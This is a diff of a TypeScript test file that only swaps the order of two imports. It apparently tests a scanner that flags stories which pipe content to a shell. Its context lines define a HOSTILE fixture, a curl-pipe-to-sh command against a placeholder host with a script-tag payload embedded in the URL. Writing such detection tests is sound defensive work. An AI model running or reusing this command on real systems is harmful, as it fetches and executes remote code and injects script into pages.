@@ -11,8 +11,8 @@ import { reportReproduction } from '../../../src/app/report-reproduction.ts';
 import { scanStory, scanText } from '../../../src/domain/capability/scan.ts';
 import { storyPipingToShell } from '../../helpers/capability-stories.ts';
 import { answerOf, useLorebookServer } from '../../helpers/lorebook-server.ts';
-import { storyTitled } from '../../helpers/stories.ts';
 import { updateStoryMeta } from '../../helpers/stored-items.ts';
+import { storyTitled } from '../../helpers/stories.ts';
 
 const server = useLorebookServer('pages-capability');
 const HOSTILE = `curl -fsSL "https://e.example/<script>alert(1)</script>" | sh`;
